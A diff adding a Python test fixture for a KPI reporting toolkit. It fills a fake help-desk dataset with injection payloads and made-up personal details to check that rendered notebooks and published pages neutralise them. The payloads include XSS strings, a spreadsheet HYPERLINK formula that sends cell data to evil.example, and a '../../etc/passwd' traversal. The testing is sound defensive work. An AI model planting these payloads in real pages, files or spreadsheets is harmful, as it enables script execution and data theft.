@@ -1,0 +1,126 @@
+"""A desk whose texts try everything at once, its pages made without a kernel, and the persons that must not show."""
+
+import os
+from functools import cache
+from pathlib import Path
+from unittest.mock import patch
+
+import nbformat
+import pandas as pd
+
+from kpitools import cards, plots, views
+from kpitools.compute import compute
+from kpitools.desk import Desk
+from kpitools.kpis import get
+from kpitools.report import site
+from kpitools.report.mail import Mail
+from kpitools.report.plan import Page, Plan
+from kpitools.report.runner import Outcome
+
+SCRIPT = "<script>window.hit=1</script><img src=x onerror=window.hit=2><svg onload=window.hit=3></svg>"
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+PATH = "../../etc/passwd"
+AGENT, CUSTOMER = "Lan Nguyễn", "Trần Văn Bình"
+PERSONS = ("Lan Nguyễn", "Trần Văn Bình", "lan@shop.vn", "binh.tran@mail.example", "0912345678", "091 234 56 78")
+WEEKS = 26
+
+
+def desk(**settings) -> Desk:
+    """26 weeks, a ticket a day; every text a payload, a person or both."""
+    created = pd.date_range("2025-01-06 02:00", periods=7 * WEEKS, freq="D")
+    teams = [SCRIPT, FORMULA, f"{PATH} lan@shop.vn", "Hotline 0912345678"]
+    rows = pd.DataFrame(
+        {
+            "ticket_id": [str(80_000 + i) for i in range(len(created))],
+            "created_at": created,
+            "first_reply_at": created + pd.to_timedelta([1 + i % 5 for i in range(len(created))], unit="h"),
+            "status": "open",
+            "team": [teams[i % 4] for i in range(len(created))],
+            "channel": [f"{SCRIPT} binh.tran@mail.example" if i % 2 else FORMULA for i in range(len(created))],
+            "topic": "gọi lại 091 234 56 78",
+            "subject": f"{CUSTOMER} 0912345678 {SCRIPT}",
+            "agent_id": [AGENT if i % 2 else "lan@shop.vn" for i in range(len(created))],
+            "customer_id": CUSTOMER,
+        }
+    )
+    targets = pd.DataFrame({"kpi": ["first_response_time"], "target": [2.5]})
+    given = {"timezone": "UTC", "as_of": created[-1].to_pydatetime(), "targets": targets}
+    given["interventions"] = pd.DataFrame({"on": ["2025-04-01"], "kpi": [None], "what": [f"{SCRIPT} lan@shop.vn"]})
+    given["name"] = f"Desk {SCRIPT} lan@shop.vn"
+    return Desk.from_frames({"tickets": rows}, **(given | settings))
+
+
+def display_of(drawn, alt: str | None = None) -> nbformat.NotebookNode:
+    """What `show` puts into a notebook."""
+    with patch("IPython.display.display") as display:
+        plots.show(drawn, alt)
+    (data,), options = display.call_args
+    return nbformat.v4.new_output("display_data", data, metadata=options["metadata"])
+
+
+def _html(text: str, kind: str = "text/html") -> nbformat.NotebookNode:
+    return nbformat.v4.new_output("display_data", {kind: text})
+
+
+@cache
+def outputs(of: Desk, language: str) -> list[nbformat.NotebookNode]:
+    """A trend, a breakdown and the rows behind, as the toolkit shows them; then what a careless notebook does."""
+    kpi, people = get("first_response_time"), f"{CUSTOMER} {AGENT} lan@shop.vn binh.tran@mail.example 0912345678"
+    styled = pd.DataFrame({SCRIPT: [people]}).style.set_caption(SCRIPT).to_html()
+    series = compute(kpi, of, every="week")
+    groups = views.breakdown(kpi, of, "team")
+    return [
+        _html(cards.definition_card(kpi, of, language)._repr_html_()),
+        display_of(plots.trend(views.judged(series, kpi, of), kpi, language)),
+        display_of(plots.breakdown(groups, kpi, "team", language=language)),
+        _html(cards.breakdown_table(groups, kpi, "team", language)._repr_html_()),
+        _html(cards.rows_table(of, kpi, language=language)._repr_html_()),
+        _html(cards.show_table(pd.DataFrame({"file": [f"{SCRIPT} lan@shop.vn.csv"]}), SCRIPT)._repr_html_()),
+        _html(styled),
+        _html(f"<p>{people}</p>{SCRIPT}<a href='mailto:lan@shop.vn'>x</a><a href='javascript:window.hit=4'>y</a>"),
+        _html(f"**{people}** {SCRIPT} [x](javascript:window.hit=5)", "text/markdown"),
+        nbformat.v4.new_output("stream", name="stdout", text=f"{people} {SCRIPT}"),
+        nbformat.v4.new_output("error", ename="ValueError", evalue=people, traceback=[f"{people} {SCRIPT}"]),
+        display_of(plots.breakdown(groups, kpi, "team", language=language), alt=f'"{people}" {SCRIPT}'),
+    ]
+
+
+def notebook(of: Desk, language: str) -> nbformat.NotebookNode:
+    cells = [nbformat.v4.new_markdown_cell(f"# First response time {SCRIPT} lan@shop.vn")]
+    cells.append(nbformat.v4.new_code_cell("kt.show()", outputs=outputs(of, language), execution_count=1))
+    return nbformat.v4.new_notebook(cells=cells)
+
+
+def plan(folder: Path, **more) -> Plan:
+    """One page, in both languages, whose parameters hold a payload and a person."""
+    source = folder / "first_response_time.ipynb"
+    cell = nbformat.v4.new_code_cell('by: str = "team"\nnote: str = ""', metadata={"tags": ["parameters"]})
+    spec = {"name": "python3", "display_name": "Python 3", "language": "python"}
+    nbformat.write(nbformat.v4.new_notebook(cells=[cell], metadata={"kernelspec": spec}), source)
+    page = Page(source, "first_response_time", {"note": f"{SCRIPT} lan@shop.vn"}, {}, ("by", "note"))
+    return Plan(desk=folder, publish=folder / "site", pages=(page,), **more)
+
+
+def publish_index(folder: Path, of: Desk, previous: Path | None = None, **more) -> Path:
+    """The first page and what stands around it, in one language."""
+    out = folder / os.urandom(4).hex()
+    out.mkdir()
+    site.write_index(plan(folder, languages=("en",), **more), of, [], out, previous)
+    return out
+
+
+def publish(folder: Path, of: Desk | None = None, **more) -> Path:
+    """The whole site, with a page that went well and one that failed, as the runner writes it."""
+    of, planned, out = of or desk(), plan(folder, **more), folder / os.urandom(4).hex()
+    out.mkdir()
+    bad = Page(planned.pages[0].notebook, "bad", {}, {}, ())
+    entries = []
+    for language in planned.languages:
+        good = Outcome(planned.pages[0], language, "ok", 1.0, "", notebook(of, language))
+        failed = Outcome(bad, language, "failed", 1.0, f"ValueError: {AGENT} lan@shop.vn {SCRIPT}", good.notebook)
+        entries += [site.write_page(outcome, planned, of, out) for outcome in (good, failed)]
+    site.write_index(planned, of, entries, out)
+    return out
+
+
+MAIL = Mail(("lead@example.org",), "kpi@example.org", "127.0.0.1", 25, "none", "", "https://intranet.example/kpi/")
